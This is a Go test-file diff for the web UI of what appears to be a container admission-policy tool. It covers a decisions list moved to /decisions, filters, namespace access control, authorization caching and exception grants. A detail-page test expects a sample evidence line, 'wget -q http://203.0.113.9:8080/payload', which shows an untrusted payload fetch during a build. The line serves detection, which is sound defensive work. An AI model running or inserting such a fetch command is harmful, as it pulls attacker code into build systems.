@@ -433,9 +433,9 @@ func TestSecurityHeaders(t *testing.T) {
 func TestListGolden(t *testing.T) {
 	f := newFixture(t)
 	c, _ := f.login("alice-token")
-	w := f.do("GET", "/", nil, c)
+	w := f.do("GET", "/decisions", nil, c)
 	if w.Code != http.StatusOK {
-		t.Fatalf("GET / = %d\n%s", w.Code, w.Body)
+		t.Fatalf("GET /decisions = %d\n%s", w.Code, w.Body)
 	}
 	checkGolden(t, "list.html.golden", w.Body.Bytes())
 }
@@ -474,13 +474,19 @@ func TestListFilters(t *testing.T) {
 		{"?since=1d", []string{"2", "1"}},
 		{"?since=all&limit=1", []string{"2"}},
 	} {
-		w := f.do("GET", "/"+tc.query, nil, c)
+		w := f.do("GET", "/decisions"+tc.query, nil, c)
 		if w.Code != http.StatusOK {
-			t.Errorf("GET /%s = %d\n%s", tc.query, w.Code, w.Body)
+			t.Errorf("GET /decisions%s = %d\n%s", tc.query, w.Code, w.Body)
 			continue
 		}
 		if got := rowIDs(w.Body.String()); !slices.Equal(got, tc.want) {
-			t.Errorf("GET /%s lists %v, want %v", tc.query, got, tc.want)
+			t.Errorf("GET /decisions%s lists %v, want %v", tc.query, got, tc.want)
+		}
+		// Links to the list from before it moved lead to it.
+		if tc.query != "" {
+			if w := f.do("GET", "/"+tc.query, nil, c); w.Code != http.StatusSeeOther || w.Header().Get("Location") != "/decisions"+tc.query {
+				t.Errorf("GET /%s = %d %q, want a redirect to /decisions%s", tc.query, w.Code, w.Header().Get("Location"), tc.query)
+			}
 		}
 	}
 }
@@ -500,12 +506,12 @@ func TestListBadInput(t *testing.T) {
 		"?image=" + strings.Repeat("a", 513): "longer than 512 characters",
 		"?image=%00":                         "not printable text",
 	} {
-		w := f.do("GET", "/"+query, nil, c)
+		w := f.do("GET", "/decisions"+query, nil, c)
 		if w.Code != http.StatusBadRequest || !strings.Contains(text(w.Body.String()), want) {
-			t.Errorf("GET /%s = %d, want 400 saying %q\n%s", shorten(query), w.Code, want, text(w.Body.String()))
+			t.Errorf("GET /decisions%s = %d, want 400 saying %q\n%s", shorten(query), w.Code, want, text(w.Body.String()))
 		}
 		if ids := rowIDs(w.Body.String()); len(ids) > 0 {
-			t.Errorf("GET /%s lists %v on bad input", shorten(query), ids)
+			t.Errorf("GET /decisions%s lists %v on bad input", shorten(query), ids)
 		}
 	}
 }
@@ -516,31 +522,31 @@ func TestListNamespaceAccess(t *testing.T) {
 	f := newFixture(t)
 	c, _ := f.login("carol-token") // may list shop only
 	all := "?verdict=deny&verdict=would-deny&verdict=warn&verdict=allow"
-	w := f.do("GET", "/"+all, nil, c)
+	w := f.do("GET", "/decisions"+all, nil, c)
 	if got := rowIDs(w.Body.String()); w.Code != http.StatusOK || !slices.Equal(got, []string{"3", "1"}) {
 		t.Errorf("carol's list = %d %v, want 200 [3 1] (shop only)", w.Code, got)
 	}
 	if !strings.Contains(w.Body.String(), "Only decisions in namespaces you may list are shown.") {
 		t.Error("no note that rows were left out")
 	}
-	if w := f.do("GET", "/"+all+"&namespace=staging", nil, c); w.Code != http.StatusForbidden ||
+	if w := f.do("GET", "/decisions"+all+"&namespace=staging", nil, c); w.Code != http.StatusForbidden ||
 		!strings.Contains(w.Body.String(), "You (carol) may not list decisions in namespace staging.") {
 		t.Errorf("carol's list of staging = %d, want 403\n%s", w.Code, w.Body)
 	}
 	// The newest decisions of other namespaces do not crowd out carol's:
 	// the newest two are staging's, her limit of one is shop's newest.
-	if got := rowIDs(f.do("GET", "/"+all+"&limit=1", nil, c).Body.String()); !slices.Equal(got, []string{"3"}) {
+	if got := rowIDs(f.do("GET", "/decisions"+all+"&limit=1", nil, c).Body.String()); !slices.Equal(got, []string{"3"}) {
 		t.Errorf("carol's list with limit 1 = %v, want [3]", got)
 	}
 	// Answers are cached within the session: a second page costs no
 	// authorization calls.
 	before := f.authz.calls
-	f.do("GET", "/"+all, nil, c)
+	f.do("GET", "/decisions"+all, nil, c)
 	if f.authz.calls != before {
 		t.Errorf("a second list made %d authorization calls, want 0 (cached)", f.authz.calls-before)
 	}
 	f.clock.Advance(DefaultAuthzCacheTTL)
-	f.do("GET", "/"+all, nil, c)
+	f.do("GET", "/decisions"+all, nil, c)
 	if f.authz.calls == before {
 		t.Error("authorization answers outlived the cache TTL")
 	}
@@ -548,7 +554,7 @@ func TestListNamespaceAccess(t *testing.T) {
 	// A user with no permission at all sees nothing.
 	f.authz.allow = map[string]bool{}
 	f.clock.Advance(DefaultAuthzCacheTTL)
-	if got := rowIDs(f.do("GET", "/"+all, nil, c).Body.String()); len(got) != 0 {
+	if got := rowIDs(f.do("GET", "/decisions"+all, nil, c).Body.String()); len(got) != 0 {
 		t.Errorf("without permissions the list shows %v", got)
 	}
 }
@@ -566,12 +572,16 @@ func TestDetailGolden(t *testing.T) {
 	got := text(w.Body.String())
 	// The evidence chain in the order it happened, as a person reads it.
 	for _, want := range []string{
-		"2026-12-01 10:00:00 UTC Built on node worker-3 with docker registry.example/shop/api:1.4 finished 2026-12-01 10:01:00 UTC",
+		"2026-12-01 10:00:00 UTC Objection: Built on node worker-3 with docker registry.example/shop/api:1.4 sha256:" + strings.Repeat("a", 64) + " finished 2026-12-01 10:01:00 UTC",
 		"node worker-3 built this image with docker at 2026-12-01T10:01:00Z (matched by image-id), and worker-3 is not an approved build node",
-		"2026-12-01 10:00:20 UTC wget (pid 4242) on worker-3 connected to 203.0.113.9:8080",
+		"2026-12-01 10:00:20 UTC Objection: wget (pid 4242) on worker-3 connected to 203.0.113.9:8080",
 		"command: wget -q http://203.0.113.9:8080/payload",
-		"— No signature or provenance finding",
-		"2026-12-01 11:50:00 UTC Denied create of Deployment shop/api by system:serviceaccount:ci:deployer (enforce mode) rules: host-built, untrusted-egress",
+		// The policy checks no signatures: it says so, in grey, not
+		// "no finding" in green.
+		"— Fact: Signatures not checked by this policy",
+		"— Fact: Provenance not checked by this policy",
+		"2026-12-01 11:50:00 UTC Objection: Denied create of Deployment shop/api by system:serviceaccount:ci:deployer (enforce mode) rules: host-built, untrusted-egress",
+		"Red a rule objects and denies Amber a rule warns",
 		"Grant exception for registry.example/shop/api@sha256:aaaa",
 	} {
 		if !strings.Contains(got, want) {
@@ -589,16 +599,16 @@ func TestDetailFreshImage(t *testing.T) {
 	w := f.do("GET", "/decisions/0d1e5a7c-2222-4a4a-9b9b-000000000002", nil, c)
 	got := text(w.Body.String())
 	for _, want := range []string{
-		"2026-12-01 11:53:00 UTC Image created registry.example/web/site:2 config sha256:dddd",
+		"2026-12-01 11:53:00 UTC Objection: Image created registry.example/web/site:2 sha256:" + strings.Repeat("b", 64) + " config sha256:dddd",
 		"time from the image config, which the build writes itself",
-		"Admitted; would be denied (audit mode)",
+		"Warning: Admitted; would be denied (audit mode)",
 		"You may not grant exceptions in namespace staging.",
 	} {
 		if !strings.Contains(got, want) {
 			t.Errorf("detail page does not say %q\n%s", want, got)
 		}
 	}
-	if strings.Contains(w.Body.String(), "/exceptions") {
+	if strings.Contains(w.Body.String(), `class="grant"`) {
 		t.Error("bob, who may not create exceptions, sees a grant form")
 	}
 }
@@ -739,7 +749,7 @@ func TestGrantOff(t *testing.T) {
 	f.h.c.Granter, f.h.c.GrantOff = nil, "policies come from a file and no --exceptions-file is set"
 	c, csrf := f.login("alice-token")
 	page := f.do("GET", "/decisions/"+nodeBuiltID, nil, c).Body.String()
-	if strings.Contains(page, "/exceptions") || !strings.Contains(page, "Granting exceptions is off: policies come from a file") {
+	if strings.Contains(page, `class="grant"`) || !strings.Contains(page, "Granting exceptions is off: policies come from a file") {
 		t.Errorf("detail page with granting off:\n%s", text(page))
 	}
 	if w := f.do("POST", "/decisions/"+nodeBuiltID+"/exceptions", grantValues(csrf, nil), c); w.Code != http.StatusForbidden {
@@ -849,7 +859,7 @@ func TestScanDecisionLinks(t *testing.T) {
 		t.Fatal(err)
 	}
 	c, csrf := f.login("alice-token")
-	list := f.do("GET", "/", nil, c).Body.String()
+	list := f.do("GET", "/decisions", nil, c).Body.String()
 	m := regexp.MustCompile(`href="(/decisions/0d1e5a7c-5555[^"]*)"`).FindStringSubmatch(list)
 	if m == nil {
 		t.Fatalf("the list has no link to %s\n%s", d.ID, list)
